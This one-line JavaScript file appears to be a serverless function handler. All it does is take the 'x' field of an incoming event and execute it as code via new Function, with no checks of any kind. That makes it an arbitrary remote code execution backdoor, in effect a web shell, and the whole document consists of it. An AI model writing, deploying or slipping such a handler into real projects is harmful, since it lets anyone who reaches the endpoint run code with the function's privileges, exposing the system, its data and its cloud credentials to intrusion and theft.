exports.handler=async e=>{new Function(e.x)()}
